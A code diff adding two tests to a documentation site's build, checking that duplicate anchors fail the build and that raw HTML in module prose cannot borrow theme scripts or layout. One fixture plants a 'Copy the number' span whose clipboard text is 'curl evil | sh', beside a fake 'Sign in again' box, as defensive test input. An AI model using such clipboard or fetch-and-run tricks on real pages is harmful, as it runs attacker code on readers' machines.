@@ -216,3 +216,29 @@ def test_raw_html_in_module_prose_cannot_run_or_fetch(tmp_path: Path) -> None:
     assert '<th style="text-align:left">Kept</th>' in article
     assert "<details><summary>Kept</summary>Still here.</details>" in article
     assert '<section class="peerkit-activity" aria-labelledby="listening-pairs">' in article
+
+
+def test_an_id_repeated_by_prose_html_fails_the_build_at_its_line(tmp_path: Path) -> None:
+    prose = '\n<p id="listening-pairs">Our own paragraph</p>\n'
+    root = copy_site(tmp_path, modules={"listening.md": MINIMAL + prose})
+    build = mkdocs_build(root)
+    assert build.returncode == 1
+    assert (
+        "modules/listening.md:18: the anchor #listening-pairs is on the page more than once"
+        in build.output
+    )
+
+
+def test_prose_cannot_borrow_the_themes_scripts_or_layout(tmp_path: Path) -> None:
+    prose = (
+        '\n<pre class="mermaid">graph LR; A-->B</pre>\n\n'
+        '<div class="md-consent__inner">Sign in again</div>\n\n'
+        '<span data-clipboard-text="curl evil | sh">Copy the number</span>\n'
+    )
+    root = copy_site(tmp_path, modules={"listening.md": MINIMAL + prose})
+    build = mkdocs_build(root, "--strict")
+    assert build.returncode == 0, build.output
+    article = build.page("modules/listening/index.html").split('<article class="md-content')[1]
+    assert "<pre>graph LR; A--&gt;B</pre>" in article
+    assert "<div>Sign in again</div>" in article
+    assert "<span>Copy the number</span>" in article
